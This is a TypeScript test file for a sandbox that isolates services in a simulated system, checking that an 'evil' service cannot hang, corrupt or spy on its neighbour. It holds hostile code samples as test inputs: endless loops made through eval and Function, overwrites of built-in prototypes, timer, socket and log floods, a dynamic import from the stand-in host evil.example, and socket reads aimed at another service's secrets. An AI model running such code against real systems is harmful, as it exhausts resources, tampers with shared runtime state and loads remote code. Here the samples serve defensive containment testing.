/**
 * Code that means harm, in one service of a system: what happens to it, and that its neighbour goes on. What only a
 * browser's worker can show (the real global object, network, storage) is in tests/browser/containment.test.ts.
 */
import { beforeAll, describe, expect, test } from 'vitest';
import { hardenIntrinsics } from './process/intrinsics.ts';
import { TestLab } from './test-lab.ts';

// As in the worker: before any code of a project runs.
beforeAll(hardenIntrinsics);

const GOOD = `
import { createServer } from 'node:http';
let seen = 0;
createServer((request, response) => {
  seen++;
  const list = [3, 1, 2].map((n) => n * 2).filter((n) => n > 2).sort((a, b) => a - b);
  response.end(JSON.stringify({ list, seen, evil: {}.evil ?? null, text: String({}), today: typeof Date.now() }));
}).listen(8080);
`;

const ANSWER = '{"list":[4,6],"seen":1,"evil":null,"text":"[object Object]","today":"number"}';

/** Boots the neighbour and a service that answers each request with what \`attack\` (an async function's body) returns. */
async function withEvil(attack: string, top = ''): Promise<TestLab> {
  const main = `
import { createServer } from 'node:http';
${top}
createServer(async (request, response) => {
  try { response.end(String(await attack())); } catch (error) { response.end(error.name + ': ' + error.message); }
}).listen(9000);
async function attack() {
${attack}
}
`;
  const lab = await TestLab.boot({ good: { main: GOOD }, evil: { main } });
  lab.run(1000);
  return lab;
}

async function answerOf(attack: string, top?: string): Promise<string> {
  const lab = await withEvil(attack, top);
  const answer = lab.request('http://evil:9000/').body;
  expect(lab.request('http://good:8080/').body).toBe(ANSWER);
  return answer;
}

describe('a call that does not return ends the run, with service, file and line', () => {
  const endless: Record<string, [attack: string, top?: string]> = {
    'a loop': ['for (;;) {}'],
    'a loop that catches everything': ['for (;;) try { for (;;) {} } catch {}'],
    'a loop in a getter': ['return { get x() { while (true) {} } }.x;'],
    'a loop in a generator': ['for (const x of (function* () { for (;;) yield 1; })()) void x;'],
    'a promise chain': ['await (function again() { return Promise.resolve().then(again); })();'],
    'nextTick without end': ['(function again() { process.nextTick(again); })(); await new Promise(() => {});'],
    'a loop made by new Function': ["new Function('for (;;) {}')();"],
    'a loop made by eval': ["eval('for (;;) {}');"],
    'a loop made through a constructor': ["(() => {}).constructor('while (1);')();"],
    'a sort that never agrees': ['for (;;) [3, 1, 2].sort(() => Math.random() - 0.5);'],
  };
  for (const [name, [attack, top]] of Object.entries(endless)) {
    test(name, { timeout: 10_000 }, async () => {
      const lab = await withEvil(attack, top);
      expect(() => lab.request('http://evil:9000/')).toThrow(/evil.* does not return/);
      expect(lab.lab.ended).toMatchObject({ file: 'evil/src/main.ts', severity: 'error' });
    });
  }
});

describe('the language itself is shared, and closed', () => {
  const attempts: Record<string, string> = {
    'a method of arrays': 'Array.prototype.map = () => [];',
    'a method of arrays, defined': "Object.defineProperty(Array.prototype, 'filter', { value: () => [] });",
    'the iterator of arrays': '[][Symbol.iterator]().__proto__.next = () => ({ done: true });',
    'all objects': 'Object.prototype.evil = 1;',
    'all objects, by __proto__': '({}).__proto__.evil = 1;',
    'all objects, replaced': 'Object.prototype.toString = () => "evil";',
    'all functions': 'Function.prototype.call = () => 1;',
    JSON: 'JSON.stringify = () => "{}";',
    strings: 'String.prototype.split = () => [];',
    'typed arrays': 'Uint8Array.prototype.set = () => {};',
    'typed arrays, from their root': 'Object.getPrototypeOf(Uint8Array.prototype).fill = () => {};',
    'regular expressions': 'RegExp.prototype.exec = () => null;',
    maps: 'Map.prototype.get = () => 1;',
    generators: 'Object.getPrototypeOf(function* () {}).prototype.next = () => ({ done: true });',
    URLs: "Object.defineProperty(URL.prototype, 'pathname', { get: () => '/evil' });",
    errors: 'Error.prototype.toString = () => "evil";',
    'the parent of Date': 'Object.getPrototypeOf(Date.prototype).getTime = () => 0;',
    'the prototype of prototypes': 'Object.setPrototypeOf(Array.prototype, { evil: 1 });',
  };
  for (const [name, attack] of Object.entries(attempts))
    test(`${name}: refused, and the neighbour is what it was`, async () => {
      expect(await answerOf(attack)).toMatch(/^TypeError: /);
    });

  test('statics of Error are the process’s own', async () => {
    const attack =
      'Error.stackTraceLimit = 0; Error.prepareStackTrace = () => "evil"; return new Error("x").stack ?? "none";';
    const lab = await withEvil(attack);
    expect(lab.request('http://evil:9000/').body).not.toContain('main.ts');
    const { stackTraceLimit } = Error;
    expect(lab.request('http://good:8080/').status).toBe(200);
    expect(Error.stackTraceLimit).toBe(stackTraceLimit);
    expect(new Error('x').stack).toContain('containment.test.ts');
  });

  test('what programs do with objects of their own still works', async () => {
    const attack = `
      const mine = {}; mine.toString = () => 'mine'; mine.constructor = 1; mine.hasOwnProperty = 2;
      function Old() {} Old.prototype.toString = () => 'old'; Old.prototype.constructor = Old;
      class Failure extends Error {} Failure.prototype.name = 'Failure';
      const error = new Failure('a'); error.message = 'b';
      function f() {} f.bind = 1; f.call = 2;
      return [mine, new Old(), error, f.bind + f.call, Buffer.from('ok').slice(0, 2)].join(' ');`;
    expect(await answerOf(attack)).toBe('mine old Failure: b 3 ok');
  });
});

describe('code made from text is code of its process', () => {
  const cases: Record<string, [attack: string, answer: string]> = {
    'Function gives the process’s global object': ["return Function('return this')() === globalThis;", 'true'],
    'and so does every way to it': [
      "return [(0, eval)('this'), (() => {}).constructor('return this')(), new Function('return globalThis')()].every((g) => g === globalThis);",
      'true',
    ],
    'its names are the process’s': ["return Function('return process.pid')() === process.pid;", 'true'],
    'the kin of Function too': [
      "return [...(function* () {}).constructor('yield* [1, 2]')()].join() + (await (async () => {}).constructor('return 3')());",
      '1,23',
    ],
    'its async is the process’s': ["return Function('return (async () => 1)()')() instanceof Promise;", 'true'],
    'parameters are parameters': ["return new Function('a', 'b = 2', 'return a + b')(1);", '3'],
    'text cannot leave the function': [
      "return Function('}), console.log(1), (function () {');",
      'SyntaxError: Unexpected token: the text is not the body of one function',
    ],
    'eval gives the last value': ["return eval('const a = 2; a * 21');", '42'],
    'import() from it goes through the module graph': [
      'return Function(\'return import("node:os")\')().then((os) => typeof os.default.cpus);',
      'function',
    ],
  };
  for (const [name, [attack, answer]] of Object.entries(cases))
    test(name, async () => expect(await answerOf(attack)).toBe(answer));
});

describe('too much of everything', () => {
  test('recursion without end kills its process, as Node does', async () => {
    const lab = await withEvil("queueMicrotask(function deep() { deep(); }); return 'begun';");
    lab.request('http://evil:9000/');
    lab.run(100);
    const exit = lab.events.find((event) => event.kind === 'process' && event.state === 'exited');
    expect(exit).toMatchObject({ endpoint: 'evil-1', exitCode: 1 });
    expect(JSON.stringify(exit)).toContain('Maximum call stack size exceeded');
    expect(lab.request('http://good:8080/').body).toBe(ANSWER);
  });

  /** A slow machine may take more than a second of real time, and then says so. */
  const answerOrEnd = (lab: TestLab): string => {
    try {
      return lab.request('http://evil:9000/').body;
    } catch (error) {
      return String(error);
    }
  };

  test('a million timers', { timeout: 20_000 }, async () => {
    const lab = await withEvil("for (let i = 0; i < 1e6; i++) setTimeout(() => {}, 1e9 + i); return 'set';");
    expect(answerOrEnd(lab)).toMatch(/^set$|evil-1: a callback at evil.src.main\.ts:8 does not return/);
    lab.run(1000);
    if (lab.lab.ended === null) expect(lab.request('http://good:8080/').body).toBe(ANSWER);
  });

  test('sockets without bound: the ports of the host run out, as on Linux', { timeout: 20_000 }, async () => {
    const lab = await withEvil(`
      const net = await import('node:net');
      const outcomes = {};
      for (let i = 0; i < 40_000; i++) {
        const socket = net.connect(8080, 'good');
        socket.on('error', (error) => { outcomes[error.code] = (outcomes[error.code] ?? 0) + 1; });
        socket.on('connect', () => { outcomes.open = (outcomes.open ?? 0) + 1; });
      }
      await new Promise((resolve) => setTimeout(resolve, 1500));
      return JSON.stringify(outcomes);
    `);
    const outcome = answerOrEnd(lab);
    if (lab.lab.ended === null) expect(JSON.parse(outcome).EADDRNOTAVAIL).toBeGreaterThan(10_000);
    else expect(outcome).toContain('does not return');
  });

  test('a million log lines: the first are kept, the rest is counted', { timeout: 20_000 }, async () => {
    const lab = await withEvil("for (let i = 0; i < 1e6; i++) console.log('line', i); return 'logged';");
    expect(answerOrEnd(lab)).toMatch(/^logged$|does not return/);
    expect(lab.events.filter((event) => event.kind === 'log').length).toBe(10_001);
  });
});

test('import() of an address outside is refused', async () => {
  const attack = "return import('https://evil.example/x.js').then(() => 'loaded', (error) => error.code);";
  expect(await answerOf(attack)).toBe('ERR_UNSUPPORTED_ESM_URL_SCHEME');
});

test('the bytes that a service receives lead to nobody else’s', async () => {
  const lab = await withEvil(`
    const net = await import('node:net');
    const seen = [];
    for (const name of ['good', 'evil']) {
      const socket = net.connect(name === 'good' ? 8080 : 9000, name);
      socket.write('GET /x HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n');
      const [chunk] = await (await import('node:events')).once(socket, 'data');
      seen.push(Buffer.from(chunk.buffer).includes('SECRET'));
      socket.destroy();
      if (name === 'good') break;
    }
    return seen.join();
  `);
  lab.request('http://good:8080/?SECRET=1', { method: 'POST', body: 'SECRET' });
  expect(lab.request('http://evil:9000/').body).toBe('false');
});
